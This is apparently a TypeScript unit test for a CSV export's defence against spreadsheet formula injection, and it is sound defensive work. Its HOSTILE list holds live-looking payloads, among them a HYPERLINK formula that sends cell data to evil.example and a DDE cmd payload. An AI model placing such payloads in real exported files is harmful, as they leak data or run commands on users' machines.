import { expect } from 'chai';
import { toCsv } from '../../src/features/statistics/statistics-rules.js';
import { looksLikeFormula, spreadsheetCell } from '../../src/platform/spreadsheet-cells.js';

/** Cells that a spreadsheet would run as formulas, as a leader could type them. */
const HOSTILE = [
  '-1+HYPERLINK("http://x";"y")',
  '-1+HYPERLINK("HTTP://X";"Y")',
  '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")',
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+33 6 12 34 56 78',
  '+1+1',
  '-2+3',
  '-',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\t',
  '-1e5+1',
  '--1',
  '-1,5;=2',
];

/** Cells left as they are: numbers (whole, signed, decimal comma or point) and ordinary text. */
const HARMLESS: [string | number | null, string][] = [
  ['-3', '-3'],
  ['-1,5', '-1,5'],
  ['12,30', '12,30'],
  ['-0.25', '-0.25'],
  ['+4', '+4'],
  ['-1e5', '-1e5'],
  [-3, '-3'],
  [12.5, '12.5'],
  [0, '0'],
  [null, ''],
  ['Bâtiment C', 'Bâtiment C'],
  ['A=B', 'A=B'],
  [' =1+1', ' =1+1'],
  ['2026-01-10', '2026-01-10'],
  ['', ''],
];

describe('spreadsheet cells: never a formula', () => {
  it('prefixes every cell that starts with = + - @, a tab or a carriage return, unless it is a number', () => {
    for (const cell of HOSTILE) {
      expect(looksLikeFormula(cell), JSON.stringify(cell)).to.equal(true);
      const safe = spreadsheetCell(cell);
      expect(safe, JSON.stringify(cell)).to.equal(`'${cell}`);
      expect(looksLikeFormula(safe), JSON.stringify(cell)).to.equal(false);
    }
  });

  it('leaves numbers and ordinary text as they are', () => {
    for (const [cell, expected] of HARMLESS) expect(spreadsheetCell(cell), JSON.stringify(cell)).to.equal(expected);
    expect(spreadsheetCell(Number.NaN)).to.equal('');
    expect(spreadsheetCell(Number.POSITIVE_INFINITY)).to.equal('');
  });

  it('writes CSV whose every cell, once unquoted, is text or a number', () => {
    const csv = toCsv([['Bâtiment', 'Durée'], ...HOSTILE.map((h) => [h, -3])]);
    expect(csv).to.include(`"'-1+HYPERLINK(""http://x"";""y"")";-3`);
    expect(csv).to.include("'@SUM(A1:A9);-3");
    // Each line's cells, as a spreadsheet reads them (quotes undone).
    const cells = csv
      .slice(1)
      .split('\r\n')
      .filter(Boolean)
      .flatMap((line) =>
        line.match(/("([^"]|"")*"|[^;]*)(;|$)/g)!.map((c) => c.replace(/;$/, '').replace(/^"|"$/g, '').replace(/""/g, '"')),
      )
      .filter((c) => c !== '');
    expect(cells.filter(looksLikeFormula)).to.deep.equal([]);
  });
});
